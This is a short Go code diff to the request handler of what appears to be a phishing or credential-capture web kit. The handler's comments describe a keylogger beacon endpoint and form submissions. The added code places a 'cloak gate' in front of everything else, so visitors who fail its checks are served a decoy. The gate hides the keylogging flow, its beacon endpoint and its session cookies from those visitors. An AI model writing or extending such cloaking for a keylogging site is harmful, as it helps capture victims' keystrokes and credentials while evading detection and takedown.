@@ -121,6 +121,15 @@ func newSiteHandler(s *site.Site) *siteHandler {
 // ServeHTTP routes one request within the site: pages, image resources,
 // the keylogger beacon endpoint, and form submissions.
 func (h *siteHandler) ServeHTTP(w http.ResponseWriter, req *http.Request) {
+	// Cloak gate: a stateless pure function of the request, checked before
+	// anything else — a gated visitor sees only the decoy, never a beacon
+	// endpoint, image, or session cookie of the real flow.
+	if c := h.site.Cloak; c != nil {
+		if failing := cloakFailures(c, req); len(failing) > 0 {
+			serveDecoy(w, req, c, failing)
+			return
+		}
+	}
 	sess := h.session(w, req)
 	path := req.URL.Path
 	// Keylogger beacon endpoint.
